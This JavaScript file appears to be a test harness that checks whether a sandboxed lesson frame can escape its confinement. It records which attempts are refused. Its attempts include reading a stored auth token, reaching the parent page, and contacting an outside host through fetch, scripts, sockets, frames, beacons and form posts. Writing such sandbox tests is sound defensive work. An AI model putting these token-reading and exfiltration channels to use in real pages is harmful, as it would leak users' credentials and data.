// Tries everything that a lesson must not be able to do, and returns what came of it.
window.attack = async function (other, stranger) {
  const found = {};
  async function attempt(name, work) {
    try {
      found[name] = String(await work());
    } catch {
      found[name] = 'refused';
    }
  }
  const loaded = (element, start) =>
    new Promise((resolve, reject) => {
      element.onload = element.onopen = resolve;
      element.onerror = reject;
      start?.(element);
    });
  const status = async (address) => (await fetch(address)).status;

  await attempt('token', () => localStorage.getItem('kaktus.token'));
  await attempt('token of the page', () => top.localStorage.getItem('kaktus.token'));
  await attempt('document of the page', () => top.document.title);
  await attempt('document of the parent', () => parent.document.title);
  await attempt('address of the page', () => top.location.href);
  await attempt('database', () => indexedDB.open('x'));
  await attempt('storage of a frame', async () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>x</p>';
    await loaded(frame, () => document.body.append(frame));
    return frame.contentWindow.localStorage.length;
  });
  await attempt('another lesson', () => status(other));
  await attempt('the API', () => status('/api/openapi.json'));
  await attempt('a page of the library', () => status('/'));
  await attempt('another host', () => status(`${stranger}/fetch`));
  await attempt('by a picture', () => loaded(new Image(), (image) => (image.src = `${stranger}/p`)));
  await attempt('by a script', () =>
    loaded(document.createElement('script'), (script) => {
      script.src = `${stranger}/s.js`;
      document.head.append(script);
    }),
  );
  await attempt('by a socket', () => loaded(new WebSocket(stranger.replace('http', 'ws'))));
  await attempt('by a window', () => {
    if (!open(`${stranger}/window`)) throw new Error('none');
  });
  // What the policy refuses is reported to the page around the frame.
  const framed = (address) =>
    new Promise((resolve, reject) => {
      const frame = document.createElement('iframe');
      const hear = ({ effectiveDirective }) => effectiveDirective === 'frame-src' && reject();
      document.addEventListener('securitypolicyviolation', hear);
      frame.onload = () => setTimeout(resolve, 1000, 'framed');
      frame.src = address;
      document.body.append(frame);
    });
  const script = `<script>location = '${stranger}/frame'</scr${'ipt>'}`;
  const written = URL.createObjectURL(new Blob([script], { type: 'text/html' }));
  await attempt('another lesson in a frame', () => framed(other));
  await attempt('a page of the library in a frame', () => framed(new URL('/', document.baseURI)));
  await attempt('another host in a frame', () => framed(`${stranger}/frame`));
  await attempt('data in a frame', () => framed(`data:text/html,${script}`));
  await attempt('a blob in a frame', () => framed(written));
  await attempt('by the page itself', () => (top.location = `${stranger}/top`));
  navigator.sendBeacon(`${stranger}/beacon`, 'x');
  const form = document.createElement('form');
  form.action = `${stranger}/form`;
  document.body.append(form);
  form.submit();
  return found;
};
